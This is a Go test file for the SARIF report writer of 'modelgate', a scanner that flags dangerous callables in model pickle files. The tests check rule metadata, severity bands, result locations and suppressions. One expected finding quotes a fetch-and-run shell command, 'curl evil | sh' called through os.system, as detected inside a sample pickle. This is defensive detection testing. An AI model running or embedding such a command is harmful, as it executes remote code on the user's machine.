package sarif

import (
	"strconv"
	"strings"
	"testing"

	"github.com/modelgate/modelgate/finding"
	"github.com/modelgate/modelgate/policy"
)

func TestRuleTable(t *testing.T) {
	l := decode(t, write(t, cleanReport(), Options{}))
	d := l.Runs[0].Tool.Driver
	if d.Name != "modelgate" || d.SemanticVersion != "0.0.0-devel" || d.InformationURI == "" {
		t.Errorf("driver %q %q %q", d.Name, d.SemanticVersion, d.InformationURI)
	}
	rules := finding.Rules()
	if len(d.Rules) != len(rules) {
		t.Fatalf("%d rules, want every rule of the table (%d)", len(d.Rules), len(rules))
	}
	band := map[finding.Severity][2]float64{finding.Critical: {9.1, 10}, finding.High: {7.1, 8.8}, finding.Medium: {4.1, 6.8}, finding.Low: {0.1, 3.8}}
	severities := policy.RuleSeverities()
	for i, r := range rules {
		got, sev := d.Rules[i], severities[r.ID]
		t.Run(strings.ToLower(r.ID), func(t *testing.T) {
			if got.ID != r.ID || got.Name != r.Name || got.ShortDescription.Text == "" || got.FullDescription.Text == "" ||
				got.Help.Text == "" || got.Help.Markdown == "" {
				t.Errorf("incomplete rule %+v", got)
			}
			if got.DefaultConfiguration.Level != Level(sev) {
				t.Errorf("level %q", got.DefaultConfiguration.Level)
			}
			ss, err := strconv.ParseFloat(got.Properties.SecuritySeverity, 64)
			if b := band[sev]; err != nil || ss < b[0] || ss > b[1] {
				t.Errorf("security-severity %q outside %v for %s", got.Properties.SecuritySeverity, b, sev)
			}
			if len(got.Properties.Tags) == 0 || got.Properties.Tags[0] != "security" {
				t.Errorf("tags %v", got.Properties.Tags)
			}
			for _, cwe := range r.CWE {
				want := "external/cwe/" + strings.ToLower(cwe)
				if !strings.Contains(strings.Join(got.Properties.Tags, " "), want) {
					t.Errorf("tags %v lack %s", got.Properties.Tags, want)
				}
			}
		})
	}
}

func TestResults(t *testing.T) {
	l := decode(t, write(t, sampleReport(), Options{}))
	run := l.Runs[0]
	if run.AutomationDetails != nil {
		t.Error("automationDetails without a category")
	}
	type key struct{ rule, uri string }
	seen := map[key]bool{}
	for _, res := range run.Results {
		if res.RuleIndex == nil || run.Tool.Driver.Rules[*res.RuleIndex].ID != res.RuleID {
			t.Errorf("ruleIndex %v does not point at %s", res.RuleIndex, res.RuleID)
		}
		uri := res.Locations[0].PhysicalLocation.ArtifactLocation.URI
		k := key{res.RuleID, uri}
		if seen[k] {
			t.Errorf("two results for %v", k)
		}
		seen[k] = true
		if res.Locations[0].PhysicalLocation.Region["startLine"] != 1 {
			t.Errorf("%v: region %v", k, res.Locations[0].PhysicalLocation.Region)
		}
		if res.PartialFingerprints["primaryLocationLineHash"] == "" {
			t.Errorf("%v: no fingerprint", k)
		}
		if strings.ContainsAny(res.Message.Text, "\x1b\n\r") {
			t.Errorf("%v: raw control characters in %q", k, res.Message.Text)
		}
	}
	if len(run.Results) != 6 {
		t.Errorf("%d results, want 6 (one per rule per file)", len(run.Results))
	}
	// The os.system occurrence (offset 42) is the primary: same severity as
	// exec, lower offset; exec is its related location.
	mg001 := run.Results[1]
	if mg001.RuleID != finding.RuleDangerousCallable || mg001.Level != "error" {
		t.Fatalf("results[1] = %s %s", mg001.RuleID, mg001.Level)
	}
	for _, want := range []string{"os.system('curl evil | sh')", "archive/data.pkl", "offset 42", "1 more occurrence"} {
		if !strings.Contains(mg001.Message.Text, want) {
			t.Errorf("message %q lacks %q", mg001.Message.Text, want)
		}
	}
	if _, ok := mg001.Locations[0].PhysicalLocation.Region["byteOffset"]; ok {
		t.Error("an offset inside a member is given as a byte offset of the file")
	}
	if len(mg001.RelatedLocations) != 1 || mg001.RelatedLocations[0].ID != 1 ||
		!strings.Contains(mg001.RelatedLocations[0].Message.Text, "builtins.exec") {
		t.Errorf("related locations %+v", mg001.RelatedLocations)
	}
	odd := run.Results[3]
	if odd.Locations[0].PhysicalLocation.ArtifactLocation.URI != "odd%20dir/x%3Ay%25z.pkl" ||
		odd.Locations[0].PhysicalLocation.Region["byteOffset"] != 3 || odd.Locations[0].PhysicalLocation.Region["byteLength"] != 9 {
		t.Errorf("results[3] location %+v", odd.Locations[0])
	}
}

func TestCleanHasEmptyResults(t *testing.T) {
	b := write(t, cleanReport(), Options{Category: "models"})
	if !strings.Contains(string(b), `"results": []`) {
		t.Error(`clean log lacks "results": []`)
	}
	l := decode(t, b)
	if l.Runs[0].AutomationDetails == nil || l.Runs[0].AutomationDetails.ID != "models/" {
		t.Errorf("automationDetails %+v", l.Runs[0].AutomationDetails)
	}
}

func TestSuppression(t *testing.T) {
	l := decode(t, write(t, suppressedReport(), Options{}))
	res := l.Runs[0].Results
	if len(res) != 2 {
		t.Fatalf("%d results, want one open and one suppressed", len(res))
	}
	if res[0].BaselineState != "new" || res[1].BaselineState != "unchanged" {
		t.Errorf("baseline states %q %q", res[0].BaselineState, res[1].BaselineState)
	}
	if len(res[0].Suppressions) != 0 || len(res[1].Suppressions) != 1 {
		t.Fatalf("suppressions %+v / %+v", res[0].Suppressions, res[1].Suppressions)
	}
	s := res[1].Suppressions[0]
	if s.Kind != "external" || s.Status != "accepted" || s.Justification != "our own model class (reviewed)" {
		t.Errorf("suppression %+v", s)
	}
}
